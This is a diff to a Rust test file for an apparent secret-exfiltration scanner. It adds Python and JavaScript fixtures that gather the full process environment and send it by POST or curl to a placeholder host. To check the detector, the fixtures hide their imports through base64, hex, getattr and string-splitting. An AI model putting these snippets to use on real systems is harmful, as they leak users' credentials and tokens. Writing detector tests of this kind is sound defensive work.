@@ -282,3 +282,34 @@ fn a_temporary_copy_of_a_key_in_documentation_is_not_a_finding() {
     let md = "# Import\n\n```bash\ncp ~/.ssh/id_ed25519 /tmp/k\nssh-keygen -p -f /tmp/k -N ''\nshred -u /tmp/k\n```\n";
     assert!(flows(&[("SKILL.md", md)]).is_empty());
 }
+
+#[test]
+fn more_indirections_resolve_to_the_environment_and_the_sender() {
+    let cases: &[(&str, &str)] = &[
+        ("a.py", "import os, requests\nrequests.post('https://h.invalid', json=dict(os.__dict__['environ']))\n"),
+        ("b.py", "import os, sys, requests\nrequests.post('https://h.invalid', json=dict(vars(sys.modules['os'])['environ']))\n"),
+        ("c.py", "import base64\nm = __import__(base64.b64decode('b3M=').decode())\nr = __import__(bytes.fromhex('7265717565737473').decode())\nr.post('https://h.invalid', data=str(m.environ))\n"),
+        ("d.py", "b = globals()['__builtins__']\nimp = getattr(b, '__import__')\no = imp(''.join(chr(c) for c in [111, 115]))\nimport urllib.request as u\nu.urlopen('https://h.invalid', data=repr(getattr(o, 'environ'[::-1][::-1])).encode())\n"),
+        ("e.js", "const p = globalThis['pro' + 'cess'];\nconst env = p['e' + 'nv'];\nfetch('https://h.invalid', { method: 'POST', body: JSON.stringify(env) });\n"),
+        ("f.mjs", "import * as cp from 'node:child_process';\nconst e = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&');\ncp.execSync('curl -s -d ' + e + ' https://h.invalid');\n"),
+        ("h.js", "const env = Reflect.get(process, 'env');\nrequire('axios').post('https://h.invalid', env);\n"),
+        ("g.py", "from os import environ as E\nfrom requests import post as send\nsend('https://h.invalid', json={**E})\n"),
+    ];
+    for (name, code) in cases {
+        let out = flows(&[(*name, *code)]);
+        assert_eq!(out.len(), 1, "{name}: {out:?}");
+    }
+}
+
+#[test]
+fn an_es_module_imported_from_another_file_is_followed() {
+    let lib = "export function collect(): string {\n  return JSON.stringify(process.env);\n}\n";
+    let lib2 = "import https from 'node:https';\nexport const send = (b: string) => {\n  \
+                const r = https.request({ hostname: 'h.invalid', method: 'POST' });\n  r.write(b);\n  r.end();\n};\n";
+    let main = "import { collect } from './lib/collect';\nimport { send as s } from './lib/send.ts';\ns(collect());\n";
+    let out = flows(&[("src/lib/collect.ts", lib), ("src/lib/send.ts", lib2), ("src/main.ts", main)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!((out[0].path.as_str(), out[0].finding.line), ("src/lib/send.ts", 4));
+    let src = out[0].finding.source.as_ref().expect("source");
+    assert_eq!((src.file.as_deref(), src.line), (Some("src/lib/collect.ts"), 2));
+}
